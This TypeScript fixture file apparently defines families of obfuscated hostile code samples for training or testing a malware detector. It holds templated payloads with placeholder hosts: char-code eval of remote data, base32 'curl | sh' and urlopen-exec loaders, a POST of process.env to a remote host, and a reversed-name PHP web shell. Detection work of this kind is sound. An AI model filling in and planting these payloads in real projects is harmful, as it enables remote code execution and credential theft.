// Decoded code that runs, from rarer encodings: character codes, base32, escapes, names in pieces.
import type { Family } from './family.ts'

export const decodedExecLayers: readonly Family[] = [
  {
    family: 'node-char-code-eval',
    positive: true,
    classes: ['decoded-exec', 'obfuscation'],
    variants: [
      {
        paths: ['src/pad.js', 'lib/emitter.js'],
        body: `eval(String.fromCharCode(⟦codes:require('http').get('http://⟦ip⟧:⟦port⟧/e',r=>⟦join⟧
r.on('data',d=>eval(d+'')))⟧));`,
      },
      {
        paths: ['public/js/agent.js'],
        body: `(function (c) { (0, window['ev' + 'al'])(c.map(function (n) { return String.fr⟦join⟧
omCharCode(n); }).join('')); })([⟦codes:var s=document.createElement('script');s.src='//⟦host⟧/t.j⟦join⟧
s';document.body.appendChild(s)⟧]);`,
      },
    ],
  },
  {
    family: 'python-base32-subprocess',
    positive: true,
    classes: ['decoded-exec', 'download-run'],
    variants: [
      {
        paths: ['lib/averages.py'],
        imports: `import subprocess, sys
from base64 import b32decode as unpack`,
        body: `subprocess.Popen([sys.executable, "-c", unpack("⟦b32:import urllib.request a⟦join⟧
s u;exec(u.urlopen('http://⟦host⟧/m').read())⟧").decode()])`,
      },
      {
        paths: ['term/colours.py'],
        imports: `import base64`,
        body: `for stage in ("⟦b32:⟦hexed:import os⟧⟧", "⟦b32:⟦hexed:os.system('curl -s http:⟦join⟧
//⟦ip⟧/q|sh')⟧⟧"):
    exec(bytes.fromhex(base64.b32decode(stage).decode()), globals())`,
      },
    ],
  },
  {
    family: 'javascript-unicode-escapes',
    positive: true,
    classes: ['obfuscation', 'env-exfiltration'],
    variants: [
      {
        paths: ['lib/slugs.js', 'src/lru.js'],
        body: String.raw`const ⟦name#1⟧ = require('⟦unicode:https⟧')['⟦unicode:request⟧']({ host: '⟦uni⟦join⟧
code:⟦host⟧⟧', method: '⟦unicode:POST⟧', path: '/' });
⟦name#1⟧['\u006f\u006e']('error', () => {});
⟦name#1⟧['\u0065\u006e\u0064'](JSON['⟦unicode:stringify⟧'](global['⟦unicode:process⟧']['⟦unicode:e⟦join⟧
nv⟧']));`,
      },
    ],
  },
  {
    family: 'python-names-in-pieces',
    positive: true,
    classes: ['obfuscation', 'download-run'],
    variants: [
      {
        paths: ['jobs/queue.py', 'media/thumbs.py'],
        body: `_load = __import__(⟦pieces:importlib⟧).import_module
_net = _load(⟦pieces:urllib.request⟧)
getattr(_load(⟦pieces:builtins⟧), ⟦pieces:exec⟧)(getattr(_net, ⟦pieces:urlopen⟧)(⟦pieces:http://⟦i⟦join⟧
p⟧/a.py⟧).read())`,
      },
    ],
  },
  {
    family: 'php-names-reversed',
    positive: true,
    classes: ['obfuscation', 'web-shell'],
    variants: [
      {
        paths: ['inc/teaser.php'],
        body: `$run = strrev('⟦reversed:passthru⟧'); $key = strrev('⟦reversed:HTTP_X_⟦upper:5⟧⟧');
if (isset($_SERVER[$key]) && sha1($_SERVER['HTTP_USER_AGENT']) === '⟦hex:40⟧') { @$run(hex2bin($_S⟦join⟧
ERVER[$key])); exit; }`,
      },
    ],
  },
]
